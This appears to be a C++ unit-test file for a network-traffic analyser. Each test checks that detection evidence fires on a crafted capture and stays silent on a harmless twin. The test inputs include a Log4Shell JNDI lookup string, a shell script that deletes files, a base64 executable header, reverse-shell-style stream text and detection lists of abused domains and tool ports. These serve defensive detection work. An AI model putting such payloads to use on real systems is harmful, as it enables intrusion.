// SPDX-License-Identifier: GPL-3.0-or-later
// Each kind of evidence in a made capture where it fires, beside its twin where it stays silent.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "core/base/dnslabels.h"
#include "core/dissect/record.h"
#include "core/findings/familiar.h"
#include "core/findings/reasons.h"
#include "core/protocol/useragent.h"
#include "tests/findings/twins.h"
#include "tests/support/dnsbuilder.h"

using namespace weir;
using namespace weir::test;
using testing::Contains;
using testing::HasSubstr;

namespace {

TEST(FindingEvidence, ProgramsThatLieAboutThemselves) {
    EXPECT_TRUE((Fetch{.type = "image/jpeg", .body = program()}.gives("disguise")));
    EXPECT_TRUE((Fetch{.path = "/a.gif", .type = "application/octet-stream", .body = program()}.gives("disguise")));
    EXPECT_FALSE((Fetch{.path = "/a.exe", .type = "application/octet-stream", .body = program()}.gives("disguise")));
    EXPECT_TRUE((Fetch{.path = "/a.exe", .type = "application/octet-stream", .body = program()}.gives("download")));
}

TEST(FindingEvidence, UpdatesOfFamiliarVendorsAreNoDownloads) {
    const Fetch update{.host = "download.windowsupdate.com", .type = "application/octet-stream", .body = program()};
    EXPECT_FALSE(update.gives("download"));
    EXPECT_TRUE(update.gives("familiar-download"));
    const Fetch disguised{.host = "download.windowsupdate.com", .type = "image/png", .body = program()};
    EXPECT_TRUE(disguised.gives("disguise")) << "a familiar name discounts soft reasons alone";
}

TEST(FindingEvidence, BodiesThatAreNoFormat) {
    const std::string noise = test::noise(60'000);
    EXPECT_TRUE((Fetch{.type = "application/octet-stream", .body = noise}.gives("opaque")));
    EXPECT_FALSE((Fetch{.type = "application/octet-stream", .body = noise.substr(0, 40'000)}.gives("opaque")));
    EXPECT_FALSE((Fetch{.type = "audio/opus", .body = noise}.gives("opaque")));
    EXPECT_TRUE((Fetch{.body = "TVqQAAMAAAAEAAAA//8AALgAAAAA"}.gives("encoded-program")));
    EXPECT_FALSE((Fetch{.body = "QmFzZTY0IG9mIHdvcmRz"}.gives("encoded-program")));
    EXPECT_TRUE((Fetch{.body = "#!/bin/sh\nrm -rf /tmp/x\n"}.gives("script")));
    EXPECT_FALSE((Fetch{.body = "words"}.gives("script")));
}

TEST(FindingEvidence, WhoAsks) {
    EXPECT_TRUE((Fetch{.agent = ""}.gives("no-user-agent")));
    EXPECT_FALSE((Fetch{}.gives("no-user-agent")));
    EXPECT_TRUE((Fetch{.agent = "User-Agent: curl/8.0\r\n"}.gives("user-agent")));
    EXPECT_FALSE((Fetch{}.gives("user-agent")));
    EXPECT_TRUE((Fetch{.agent = "User-Agent: sqlmap/1.7\r\n"}.gives("tool-agent")));
    EXPECT_FALSE((Fetch{}.gives("tool-agent")));
}

TEST(FindingEvidence, AgentsAreOldByTheCapturesClock) {
    using protocol::AgentKind;
    const auto kind = [](std::string_view text, int year) { return protocol::userAgent(text, year).kind; };
    constexpr std::string_view explorer = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)";
    EXPECT_EQ(kind(explorer, 2004), AgentKind::ordinary);
    EXPECT_EQ(kind(explorer, 2020), AgentKind::old);
    constexpr std::string_view firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0";
    EXPECT_EQ(kind(firefox, 2019), AgentKind::ordinary);
    EXPECT_EQ(kind(firefox, 2025), AgentKind::old);
    EXPECT_EQ(kind("", 2020), AgentKind::none);
    EXPECT_EQ(kind("Mozilla/5.0", 2020), AgentKind::odd);
    EXPECT_EQ(kind("Lynx/2.9", 2020), AgentKind::ordinary);
}

TEST(FindingEvidence, WhatIsSentAndRefused) {
    EXPECT_TRUE((Fetch{.method = "POST", .status = "404 Not Found"}.gives("post-refused")));
    EXPECT_FALSE((Fetch{.method = "POST"}.gives("post-refused")));
    EXPECT_FALSE((Fetch{.status = "404 Not Found"}.gives("post-refused")));
}

TEST(FindingEvidence, AttacksAreTheAttackers) {
    const Fetch attack{.agent = "User-Agent: ${jndi:ldap://203.0.113.7/a}\r\n"};
    EXPECT_TRUE(attack.gives("exploit", client));
    EXPECT_THAT(tableRows(analyzed(attack.frames()), "findings", {"subject", "severity", "members", "member_count"}),
                Contains("10.0.0.1|serious|93.184.216.34|1"));
    EXPECT_FALSE((Fetch{}.gives("exploit", client)));
}

TEST(FindingEvidence, HostsThatLie) {
    const auto asks = [](std::string_view host) {
        return merged({lookup(client, "a.example.com", "93.184.216.99", 0),
                       lookup(client, "b.example.com", server, second),
                       talk(host == "b.example.com" ? server : "93.184.216.35", 80,
                            "GET / HTTP/1.1\r\nHost: " + std::string(host) + "\r\nUser-Agent: Lynx/2.9\r\n\r\n",
                            "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", 2 * second)});
    };
    EXPECT_TRUE(has(asks("a.example.com"), "93.184.216.35", "host-lies"));
    EXPECT_FALSE(has(asks("b.example.com"), server, "host-lies"));
}

TEST(FindingEvidence, NamesOfKindsThatAreAbused) {
    const auto gives = [](std::string_view name, const std::string& kind) {
        return has(merged({lookup(client, name, server, 0), talk(server, 443, "x", "y")}), server, kind);
    };
    EXPECT_TRUE(gives("home.duckdns.org", "dynamic-dns"));
    EXPECT_TRUE(gives("shop.top", "abused-domain"));
    EXPECT_TRUE(gives("abcdefg.onion.link", "tor-gateway"));
    EXPECT_TRUE(gives("x.ngrok.io", "tunnel-service"));
    EXPECT_TRUE(gives("pastebin.com", "paste"));
    EXPECT_TRUE(gives("pool.supportxmr.com", "mining"));
    EXPECT_TRUE(gives("api.ipify.org", "address-check"));
    EXPECT_TRUE(gives("paypal-login.example.com", "brand-in-name"));
    EXPECT_TRUE(gives("xkqzwrtplm.com", "made-up-domain"));
    for (const char* kind : {"dynamic-dns", "abused-domain", "tor-gateway", "tunnel-service", "paste", "mining",
                             "address-check", "brand-in-name", "made-up-domain"}) {
        EXPECT_FALSE(gives("www.example.com", kind)) << kind;
        EXPECT_FALSE(gives("www.paypal.com", kind)) << kind;
    }
    EXPECT_TRUE(gives("www.example.com", "unfamiliar"));
    EXPECT_FALSE(gives("www.mozilla.org", "unfamiliar"));
}

TEST(FindingEvidence, WhatIsKnownOfADomain) {
    using findings::Familiarity;
    using findings::familiarity;
    EXPECT_EQ(familiarity("www.google.com"), Familiarity::familiar);
    EXPECT_EQ(familiarity("drive.google.com"), Familiarity::platform) << "the longest match counts";
    EXPECT_EQ(familiarity("notgoogle.com"), Familiarity::unknown);
    EXPECT_EQ(familiarity("google.com.evil.top"), Familiarity::abusedTld);
    EXPECT_EQ(familiarity(""), Familiarity::unknown);
    EXPECT_EQ(familiarity("."), Familiarity::unknown);
    EXPECT_TRUE(looksMadeUp("xkqzwrtplm"));
    EXPECT_FALSE(looksMadeUp("mindspring"));
}

TEST(FindingEvidence, WhatStreamsBetray) {
    const auto gives = [](std::uint16_t port, std::string_view asked, std::string_view answer,
                          const std::string& kind) { return has(talk(server, port, asked, answer), server, kind); };
    EXPECT_TRUE(gives(9001, "Microsoft Windows [Version 10.0.19045]\r\n", "whoami\n", "stream-sign"));
    EXPECT_FALSE(gives(9001, "hello\n", "good day\n", "stream-sign"));
    EXPECT_TRUE(gives(80, "\x01\x02\x03\x04\x05", "\x09\x08\x07", "own-protocol"));
    EXPECT_FALSE(gives(9001, "\x01\x02\x03\x04\x05", "\x09\x08\x07", "own-protocol"));
    EXPECT_TRUE(gives(9001, "\x01\x02\x03\x04\x05", "\x09\x08\x07", "unknown-protocol"));
    EXPECT_TRUE(gives(4444, "\x01\x02\x03\x04\x05", "\x09\x08\x07", "tool-port"));
    EXPECT_FALSE(gives(9001, "\x01\x02\x03\x04\x05", "\x09\x08\x07", "tool-port"));
    EXPECT_TRUE(gives(6667, "NICK a\r\nUSER a 0 * :a\r\n", ":irc.example.com 001 a :Welcome\r\n", "irc"));
}

TEST(FindingEvidence, LongAndVainConnections) {
    const auto held = [](std::int64_t seconds) {
        TcpConversation conversation(client, 40000, server, 9001, second);
        conversation.handshake().clientSends(octets("a"));
        std::vector<TestFrame> frames = conversation.frames();
        TestFrame last = frames.back();
        last.time += seconds * second;
        frames.push_back(last);
        return frames;
    };
    EXPECT_TRUE(has(held(1900), server, "long-connection"));
    EXPECT_FALSE(has(held(1700), server, "long-connection"));
    const auto tries = [](int count) {
        std::vector<TestFrame> frames;
        for (int i = 0; i < count; ++i)
            frames.push_back(
                {ethernet(ipv4(client, server, tcp({static_cast<std::uint16_t>(40000 + i), 443, 1, 0, dissect::syn}))),
                 second * (i + 1), 0, 1});
        return frames;
    };
    EXPECT_TRUE(has(tries(4), server, "no-answer"));
    EXPECT_FALSE(has(tries(3), server, "no-answer"));
}

TEST(FindingEvidence, PasswordsAreGuessedFast) {
    const auto logins = [](int count, std::int64_t apart) {
        std::vector<TestFrame> frames;
        for (int i = 0; i < count; ++i) {
            const auto one = talk("10.0.0.9", 22, "SSH-2.0-x\r\n", "SSH-2.0-OpenSSH_9.2\r\n", second + i * apart,
                                  static_cast<std::uint16_t>(40000 + i));
            frames.insert(frames.end(), one.begin(), one.end());
        }
        return frames;
    };
    EXPECT_TRUE(has(logins(20, second), client, "password-guessing"));
    EXPECT_FALSE(has(logins(19, second), client, "password-guessing")) << "too few";
    EXPECT_FALSE(has(logins(20, 60 * second), client, "password-guessing")) << "too slow for a machine";
}

TEST(FindingEvidence, EchoesThatCarryData) {
    const auto echoes = [](bool varying) {
        std::vector<TestFrame> frames;
        for (unsigned i = 0; i < 40; ++i) {
            const Octets data(varying ? 200 + i * 7 : 300, 'x');
            Octets rest = {0, 1, 0, static_cast<std::uint8_t>(i)};
            rest.insert(rest.end(), data.begin(), data.end());
            frames.push_back({ethernet(ipv4(client, server, icmp(8, 0, rest))), second * (i + 1), 0, 1});
        }
        return frames;
    };
    EXPECT_TRUE(has(echoes(true), client, "icmp-tunnel"));
    EXPECT_FALSE(has(echoes(false), client, "icmp-tunnel")) << "ping -s 292";
}

TEST(FindingEvidence, ManyPeersAreOneFinding) {
    const auto peers = [](int count) {
        std::vector<TestFrame> frames = lookup(client, "a.example.com", "93.184.216.99", 0);
        for (int i = 0; i < count; ++i) {
            const std::string peer = "93.184.217." + std::to_string(i + 1);
            frames.push_back(
                datagram(client, 50123, peer, static_cast<std::uint16_t>(20000 + i), octets("abcdefgh"), second));
            frames.push_back(
                datagram(peer, static_cast<std::uint16_t>(20000 + i), client, 50123, octets("ijkl"), 2 * second));
        }
        return frames;
    };
    EXPECT_TRUE(has(peers(6), client, "peers"));
    EXPECT_FALSE(has(peers(6), "93.184.217.1", "never-named")) << "taken together";
    EXPECT_FALSE(has(peers(5), client, "peers"));
    EXPECT_TRUE(has(peers(5), "93.184.217.1", "never-named"));
}

TEST(FindingEvidence, SweepsNameWhatTheyTried) {
    std::vector<TestFrame> frames;
    for (int i = 0; i < 30; ++i)
        frames.push_back(
            {ethernet(ipv4(client, "10.0.1." + std::to_string(i + 1), icmp(8, 0, Octets(12, 'a')))), second + i, 0, 1});
    const auto rows = tableRows(analyzed(frames), "findings", {"subject", "severity", "member_count", "why"});
    ASSERT_EQ(rows.size(), 1u);
    EXPECT_THAT(rows[0], HasSubstr("10.0.0.1|serious|30|scan: 10.0.0.1 pinged 30 hosts, one after the other"));
}

TEST(FindingEvidence, NoSoftReasonAloneIsWorthALook) {
    for (const findings::FindingRule& rule : findings::FindingWeights::defaults().rules()) {
        const findings::Severity alone = findings::severity(rule.weight);
        if (rule.evidence == findings::EvidenceClass::hard)
            EXPECT_EQ(alone, findings::Severity::serious) << rule.kind;
        else
            EXPECT_EQ(alone, findings::Severity::little) << rule.kind;
    }
}

}  // namespace
